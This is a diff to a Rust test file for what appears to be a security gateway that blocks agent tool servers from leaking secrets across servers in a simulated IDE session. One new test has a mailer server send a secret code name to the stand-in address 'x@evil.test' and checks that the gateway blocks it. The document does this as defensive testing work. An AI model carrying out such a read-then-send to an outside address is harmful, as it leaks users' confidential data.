@@ -95,6 +95,7 @@ fn blocked_by(result: &Value) -> Option<String> {
 struct Ide {
     shell: Child,
     wires: BTreeMap<String, Wire>,
+    dir: PathBuf,
 }
 
 impl Drop for Ide {
@@ -123,8 +124,19 @@ fn fake_ide_bin(dir: &Path) -> PathBuf {
     link
 }
 
-/// Starts one session with `servers` (id, argv, pass_env).
+/// Starts one session with `servers` (id, argv, pass_env); the wraps of
+/// `later` start only when [`Ide::join`] asks for them (the shell waits for a
+/// trigger file, then `exec`s the wrap, so it stays the shell's child).
 fn ide(sb: &Sandbox, name: &str, servers: &[(&str, Vec<String>, &[&str])]) -> Ide {
+    ide_with_later(sb, name, servers, &[])
+}
+
+fn ide_with_later(
+    sb: &Sandbox,
+    name: &str,
+    servers: &[(&str, Vec<String>, &[&str])],
+    later: &[&str],
+) -> Ide {
     let dir = sb.path().join(name);
     std::fs::create_dir_all(&dir).unwrap();
     let mut script = String::new();
@@ -139,12 +151,18 @@ fn ide(sb: &Sandbox, name: &str, servers: &[(&str, Vec<String>, &[&str])]) -> Id
             .iter()
             .map(|a| quote(a))
             .collect();
-        script += &format!(
-            "{} <{} >{} &\n",
+        let run = format!(
+            "{} <{} >{}",
             wrap.join(" "),
             quote(&dir.join(format!("{id}.in")).display().to_string()),
             quote(&dir.join(format!("{id}.out")).display().to_string())
         );
+        if later.contains(id) {
+            let go = quote(&dir.join(format!("{id}.go")).display().to_string());
+            script += &format!("( while [ ! -e {go} ]; do sleep 0.05; done; exec {run} ) &\n");
+        } else {
+            script += &format!("{run} &\n");
+        }
     }
     script += "wait\n";
     let shell = Command::new(fake_ide_bin(sb.path()))
@@ -154,13 +172,30 @@ fn ide(sb: &Sandbox, name: &str, servers: &[(&str, Vec<String>, &[&str])]) -> Id
         .env("MEMORY_FILE_PATH", dir.join("memory.jsonl"))
         .spawn()
         .expect("start the fake IDE");
-    let mut wires = BTreeMap::new();
+    let mut ide = Ide {
+        shell,
+        wires: BTreeMap::new(),
+        dir,
+    };
     for (id, _, _) in servers {
+        if !later.contains(id) {
+            ide.open(id);
+        }
+    }
+    ide
+}
+
+impl Ide {
+    fn wire(&mut self, id: &str) -> &mut Wire {
+        self.wires.get_mut(id).expect("a wrap of this session")
+    }
+
+    fn open(&mut self, id: &str) {
         let input = File::options()
             .write(true)
-            .open(dir.join(format!("{id}.in")))
+            .open(self.dir.join(format!("{id}.in")))
             .unwrap();
-        let output = File::open(dir.join(format!("{id}.out"))).unwrap();
+        let output = File::open(self.dir.join(format!("{id}.out"))).unwrap();
         let (tx, rx) = mpsc::channel();
         std::thread::spawn(move || {
             for line in BufReader::new(output).lines() {
@@ -170,7 +205,7 @@ fn ide(sb: &Sandbox, name: &str, servers: &[(&str, Vec<String>, &[&str])]) -> Id
                 }
             }
         });
-        wires.insert(
+        self.wires.insert(
             id.to_string(),
             Wire {
                 input,
@@ -179,12 +214,12 @@ fn ide(sb: &Sandbox, name: &str, servers: &[(&str, Vec<String>, &[&str])]) -> Id
             },
         );
     }
-    Ide { shell, wires }
-}
 
-impl Ide {
-    fn wire(&mut self, id: &str) -> &mut Wire {
-        self.wires.get_mut(id).expect("a wrap of this session")
+    /// Starts a wrap of `later` now.
+    fn join(&mut self, id: &str) -> &mut Wire {
+        File::create(self.dir.join(format!("{id}.go"))).unwrap();
+        self.open(id);
+        self.wire(id)
     }
 }
 
@@ -288,6 +323,64 @@ fn linked_exfiltration_is_blocked_and_an_unrelated_send_alerts() {
     assert!(
         !db.windows(14).any(|w| w == b"BLUEHERON-7731"),
         "the secret is not stored in the database file"
+    );
+}
+
+fn call_window_rows(sb: &Sandbox) -> String {
+    let out = Command::new("sqlite3")
+        .arg("-readonly")
+        .arg(sb.gatehouse_home().join("gatehouse.db"))
+        .arg("SELECT COUNT(*) FROM call_window")
+        .output()
+        .expect("sqlite3 runs");
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    String::from_utf8_lossy(&out.stdout).trim().to_string()
+}
+
+/// The fast path: a server alone in its session keeps its calls in memory
+/// (nothing written per call), yet a server that joins later still sees the
+/// read it made while alone (handed over before the joiner's first check).
+#[test]
+fn a_read_made_alone_is_handed_over_when_another_server_joins() {
+    let peers = Peers::locate();
+    let sb = Sandbox::new();
+    let mut ide = ide_with_later(
+        &sb,
+        "ide",
+        &[
+            ("memory", memory(&peers), &["MEMORY_FILE_PATH"]),
+            ("mailer", peers.py_server("send_server.py", &[]), &[]),
+        ],
+        &["mailer"],
+    );
+    ide.wire("memory").start();
+    assert!(!ide.wire("memory").list().is_empty());
+    seed_and_read(ide.wire("memory"));
+    assert_eq!(
+        call_window_rows(&sb),
+        "0",
+        "alone in its session, no call was written"
+    );
+
+    let mailer = ide.join("mailer");
+    mailer.start();
+    assert!(!mailer.list().is_empty());
+    let leak = mailer.call(
+        "send_message",
+        json!({"to": "x@evil.test", "body": "fyi: code name BLUEHERON-7731"}),
+    );
+    let why = blocked_by(&leak).expect("the linked send is blocked");
+    assert!(why.starts_with("cross_server.read_then_send"), "{why}");
+    assert_ne!(call_window_rows(&sb), "0", "the reads were handed over");
+    drop(ide);
+    let db = std::fs::read(sb.gatehouse_home().join("gatehouse.db")).unwrap();
+    assert!(
+        !db.windows(14).any(|w| w == b"BLUEHERON-7731"),
+        "the handed-over marks hold no clear text"
     );
 }
 
